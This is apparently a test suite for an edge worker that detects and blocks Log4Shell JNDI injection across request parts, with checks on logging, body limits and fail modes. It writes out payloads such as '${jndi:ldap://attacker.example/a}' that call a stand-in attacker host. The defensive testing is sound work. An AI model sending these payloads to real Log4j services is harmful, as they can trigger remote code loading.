// The edge worker in real workerd (miniflare) in front of a real origin on
// 127.0.0.1. Expected outcomes come from the labelled payload files
// (../shared/payloads) and from the worker's documented rules
// (worker/README.md), never from the worker's own earlier output.
//
// Payload placement: each payload row is first decoded as its `decoding`
// column says (giving the string the application logs), then encoded for the
// transport of the part it is put in: percent-encoded in the query and in a
// form body, JSON-escaped in a JSON body, as is in a header or cookie,
// base64 (`<payload>:secret`) in `Authorization: Basic`. See `placeIn` in
// fixtures/worker-harness.mjs.
import test from 'node:test';
import assert from 'node:assert/strict';
import {
  PARTS, bigBytes, loggedText, placeIn, readTsv, sha256, startOrigin, startWorker,
} from './fixtures/worker-harness.mjs';

const BASE = 'http://app.test';
const malicious = readTsv('malicious.tsv');
const benign = readTsv('benign.tsv');
const remote = malicious.filter((r) => r.label === 'remote');
const noNet = malicious.filter((r) => r.label === 'jndi-no-net');

// One origin for the whole file; each test starts the worker it needs.
let origin;
test.before(async () => { origin = await startOrigin(); });
test.after(() => origin.close());

async function withWorker(t, vars) {
  const w = await startWorker({ ORIGIN: origin.url, ...vars });
  t.after(() => w.dispose());
  return w;
}

// Over real HTTP to workerd's port (BASE stands for it in the URLs built
// by the tests). Reads the whole response so that connections are released.
async function send(w, url, init = {}) {
  const res = await fetch(url.replace(BASE, w.base), { redirect: 'manual', ...init });
  const body = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, body };
}

test('clean requests reach the origin unchanged, bodies byte for byte, and responses stream back', async (t) => {
  const w = await withWorker(t, {});

  // Request line and headers: a typical browser request with 1–2 KB of headers.
  const before = origin.seen.length;
  const headers = {
    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'accept-language': 'en-GB,en;q=0.9',
    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    cookie: `session=${'a1b2c3d4'.repeat(16)}; theme=dark; consent=yes`,
    'x-request-tag': 'price is $5 {not a lookup}',
    referer: 'https://app.test/catalog?page=2',
  };
  let r = await send(w, `${BASE}/catalog/items?sort=price&q=caf%C3%A9+au+lait&tag=%24%7Bnot%7D`, { headers });
  assert.equal(r.status, 200);
  const got = origin.seen[before];
  assert.equal(origin.seen.length, before + 1);
  assert.equal(got.method, 'GET');
  assert.equal(got.url, '/catalog/items?sort=price&q=caf%C3%A9+au+lait&tag=%24%7Bnot%7D');
  for (const [k, v] of Object.entries(headers)) assert.equal(got.headers[k], v, `header ${k}`);

  // A binary body (1 MiB, so above MAX_BODY_BYTES: re-streamed), a large text
  // body (200 KB), a small JSON body and a form body: same length and hash.
  const binary = bigBytes(1 << 20);
  const text = Buffer.from('All work and no play makes Jack a dull boy. $HOME ${USER}\n'.repeat(3500));
  const jsonBody = Buffer.from(JSON.stringify({ template: 'Dear ${firstName}', n: [1, 2, 3], s: 'caf\u00e9 \\ "q"' }));
  const form = Buffer.from('user=alice&note=%24%7BHOME%7D+and+more&x=');
  const bodies = [
    ['application/octet-stream', binary],
    ['text/plain; charset=utf-8', text],
    ['application/json', jsonBody],
    ['application/x-www-form-urlencoded', form],
  ];
  for (const [type, body] of bodies) {
    const n = origin.seen.length;
    r = await send(w, `${BASE}/upload`, { method: 'PUT', headers: { 'content-type': type }, body });
    assert.equal(r.status, 200, type);
    const rec = origin.seen[n];
    assert.equal(rec.method, 'PUT');
    assert.equal(rec.length, body.length, `${type}: length`);
    assert.equal(rec.hash, sha256(body), `${type}: hash`);
    assert.equal(rec.headers['content-type'], type);
    assert.equal(Number(rec.headers['content-length']), body.length, `${type}: content-length kept`);
  }

  // A body sent without a length (chunked), above the limit.
  const n = origin.seen.length;
  const stream = new ReadableStream({
    start(c) {
      for (let i = 0; i < 8; i++) c.enqueue(binary.subarray(i * 65536, (i + 1) * 65536));
      c.close();
    },
  });
  r = await send(w, `${BASE}/stream`, { method: 'POST', body: stream, duplex: 'half', headers: { 'content-type': 'application/octet-stream' } });
  assert.equal(r.status, 200);
  assert.equal(origin.seen[n].length, 8 * 65536);
  assert.equal(origin.seen[n].hash, sha256(binary.subarray(0, 8 * 65536)));

  // The origin's response comes back whole (3 MB, streamed through).
  r = await send(w, `${BASE}/big?n=3000000`);
  assert.equal(r.status, 200);
  assert.equal(r.body.length, 3000000);
  assert.equal(sha256(r.body), sha256(bigBytes(3000000)));

  // README: clean forwards are logged only with LOG_CLEAN=true; by default
  // nothing above (all clean, all under the body limit) makes a log line.
  assert.deepEqual(w.logs.filter((l) => l.verdict === 'clean' && !l.bodyTruncated), []);
  assert.ok(!JSON.stringify(w.logs).includes('dull boy'), 'no body text in logs');
});

test('LOG_CLEAN=true logs each clean forward as one line, without the body', async (t) => {
  const w = await withWorker(t, { LOG_CLEAN: 'true' });
  const body = JSON.stringify({ note: 'All work and no play makes Jack a dull boy' });
  const r = await send(w, `${BASE}/api/notes?x=1`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  assert.equal(r.status, 200);
  const clean = w.logs.filter((l) => l.verdict === 'clean');
  assert.equal(clean.length, 1);
  assert.equal(clean[0].decision, 'forward');
  assert.equal(clean[0].method, 'POST');
  assert.match(clean[0].id, /^[0-9a-f-]{36}$/);
  assert.ok(!Number.isNaN(Date.parse(clean[0].time)));
  assert.ok(!JSON.stringify(w.logs).includes('dull boy'), 'no body text in logs');
});

test('remote payloads in the query, a header, a cookie, a JSON body, a form body and Basic auth are blocked with 403', async (t) => {
  const w = await withWorker(t, {});
  const before = origin.seen.length;
  const failures = [];
  let sent = 0;
  for (const row of remote) {
    const text = loggedText(row);
    for (const part of PARTS) {
      const req = placeIn(part, text, BASE);
      if (req === null) continue;
      sent++;
      const r = await send(w, ...req);
      if (r.status !== 403) {
        failures.push(`${part}: ${r.status} for ${row.text}`);
        continue;
      }
      const body = JSON.parse(r.body.toString('utf8'));
      assert.equal(body.blocked, true);
      assert.equal(body.verdict, 'live', `${part}: ${row.text}`);
      assert.equal(typeof body.part, 'string');
      assert.equal(typeof body.rule, 'string');
      // The 403 names the part and rule; it never echoes the payload.
      assert.ok(!r.body.toString('utf8').includes('attacker.example') && !r.body.toString('utf8').includes('evil.example'));
    }
  }
  // Every part is exercised by most rows (header-unsafe strings skip headers).
  assert.ok(sent >= remote.length * 4, `only ${sent} requests sent`);
  assert.deepEqual(failures, [], `${failures.length} of ${sent} not blocked`);
  assert.equal(origin.seen.length, before, 'no blocked request reached the origin');
  // Each block is one log line with the JNDI name and the callback host.
  const blocks = w.logs.filter((l) => l.decision === 'block');
  assert.equal(blocks.length, sent);
  for (const l of blocks) {
    assert.equal(l.verdict, 'live');
    // The callback host is part of the JNDI name the evaluator reached.
    assert.ok(typeof l.host === 'string' && l.host !== '' && l.jndi.includes(l.host), JSON.stringify(l));
    assert.ok(typeof l.id === 'string' && l.id.length > 0);
    assert.ok(Array.isArray(l.techniques));
  }
});

test('jndi-no-net payloads are blocked by default and let through, logged, with BLOCK_ATTEMPTS=false', async (t) => {
  const strict = await withWorker(t, {});
  const lax = await withWorker(t, { BLOCK_ATTEMPTS: 'false' });
  for (const row of noNet) {
    const req = placeIn('query', loggedText(row), BASE);
    const a = await send(strict, ...req);
    assert.equal(a.status, 403, `default: ${row.text}`);
    const verdict = JSON.parse(a.body).verdict;
    assert.ok(verdict === 'attempt' || verdict === 'live', `${row.text}: ${verdict}`);
    const b = await send(lax, ...req);
    // README: `attempt` or `live` are both right for jndi-no-net; a live one
    // is still blocked, an attempt passes with a log line.
    if (verdict === 'live') assert.equal(b.status, 403, row.text);
    else assert.equal(b.status, 200, row.text);
  }
  const allowed = lax.logs.filter((l) => l.decision === 'allow-attempt');
  assert.ok(allowed.every((l) => l.verdict === 'attempt'));
});

test('benign look-alikes pass to the origin in every part', async (t) => {
  const w = await withWorker(t, {});
  const failures = [];
  for (const row of benign) {
    const text = loggedText(row);
    for (const part of PARTS) {
      const req = placeIn(part, text, BASE);
      if (req === null) continue;
      const n = origin.seen.length;
      const r = await send(w, ...req);
      if (r.status !== 200 || origin.seen.length !== n + 1) failures.push(`${part}: ${r.status} for ${row.text}`);
    }
  }
  assert.deepEqual(failures, []);
});

test('monitor mode forwards payloads and logs them', async (t) => {
  const w = await withWorker(t, { MODE: 'monitor' });
  const row = remote[0];
  const n = origin.seen.length;
  const r = await send(w, ...placeIn('json', loggedText(row), BASE));
  assert.equal(r.status, 200);
  assert.equal(origin.seen.length, n + 1);
  assert.equal(origin.seen[n].text, JSON.stringify({ user: loggedText(row), remember: true }), 'body intact');
  const line = w.logs.find((l) => l.decision === 'monitor');
  assert.ok(line, 'a monitor log line');
  assert.equal(line.verdict, 'live');
  assert.equal(line.part, 'body(json)');
  // The first row is ${jndi:ldap://attacker.example/a}: the JNDI name and host.
  assert.equal(row.text, '${jndi:ldap://attacker.example/a}');
  assert.equal(line.jndi, 'ldap://attacker.example/a');
  assert.equal(line.host, 'attacker.example');
});

test('bodies over MAX_BODY_BYTES are inspected up to the limit, forwarded whole, and the cut is logged', async (t) => {
  const w = await withWorker(t, { MAX_BODY_BYTES: '1024' });
  const filler = 'x'.repeat(2000);
  // Payload inside the first 1024 bytes: blocked.
  let r = await send(w, `${BASE}/in`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: `\${jndi:ldap://attacker.example/a} ${filler}` });
  assert.equal(r.status, 403);
  // Payload after the limit: documented as not inspected, so it is forwarded
  // (whole) and the log line says how much was inspected.
  const body = `${filler} \${jndi:ldap://attacker.example/a}`;
  const n = origin.seen.length;
  r = await send(w, `${BASE}/past`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body });
  assert.equal(r.status, 200);
  assert.equal(origin.seen[n].hash, sha256(Buffer.from(body)));
  const line = w.logs.find((l) => l.bodyTruncated && l.decision !== 'block');
  assert.deepEqual(line.bodyTruncated, { inspected: 1024, declared: body.length });
  assert.equal(line.decision, 'forward');
});

test('an injected filter failure answers 503 with FAIL_MODE=closed (default) and forwards with FAIL_MODE=open', async (t) => {
  const closed = await withWorker(t, { TEST_FAULT: 'throw' });
  const open = await withWorker(t, { TEST_FAULT: 'throw', FAIL_MODE: 'open' });
  const body = Buffer.from(JSON.stringify({ a: 1 }));
  const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body };
  let n = origin.seen.length;
  let r = await send(closed, `${BASE}/x`, init);
  assert.equal(r.status, 503);
  assert.equal(origin.seen.length, n);
  assert.ok(closed.logs.some((l) => l.decision === 'fail-closed' && /TEST_FAULT/.test(l.error)));
  // The worker survives: the next request is handled the same way.
  r = await send(closed, `${BASE}/x`, { ...init, body: Buffer.from(body) });
  assert.equal(r.status, 503);

  n = origin.seen.length;
  r = await send(open, `${BASE}/x`, { ...init, body: Buffer.from(body) });
  assert.equal(r.status, 200);
  assert.equal(origin.seen.length, n + 1);
  assert.equal(origin.seen[n].hash, sha256(body));
  assert.ok(open.logs.some((l) => l.decision === 'fail-open'));
});

test('multipart text fields are inspected; JSON is also read as raw text across string boundaries', async (t) => {
  const w = await withWorker(t, {});
  const payload = '${jndi:ldap://attacker.example/a}';
  // Multipart carries field values unencoded; workerd parses the form.
  const bad = new FormData();
  bad.append('comment', payload);
  let r = await send(w, `${BASE}/upload`, { method: 'POST', body: bad });
  assert.equal(r.status, 403);
  assert.equal(JSON.parse(r.body).part, 'multipart:comment');
  // A file part is not a text field: its bytes pass, and the whole body
  // reaches the origin intact.
  const good = new FormData();
  good.append('title', 'holiday');
  good.append('file', new Blob([bigBytes(4096)]), 'photo.bin');
  const n = origin.seen.length;
  r = await send(w, `${BASE}/upload`, { method: 'POST', body: good });
  assert.equal(r.status, 200);
  assert.equal(origin.seen.length, n + 1);
  assert.match(origin.seen[n].headers['content-type'], /^multipart\/form-data; boundary=/);

  // Valid JSON whose raw text holds `${jndi:ldap://attacker.example/","b":"}`:
  // no single string is a lookup, but an application that logs the raw body
  // hands Log4j a lookup of `ldap://attacker.example/","b":"`, which connects
  // to attacker.example: live.
  const straddle = '{"a":"${jndi:ldap://attacker.example/","b":"}"}';
  assert.doesNotThrow(() => JSON.parse(straddle));
  r = await send(w, `${BASE}/api`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: straddle });
  assert.equal(r.status, 403);
  assert.equal(JSON.parse(r.body).verdict, 'live');
});
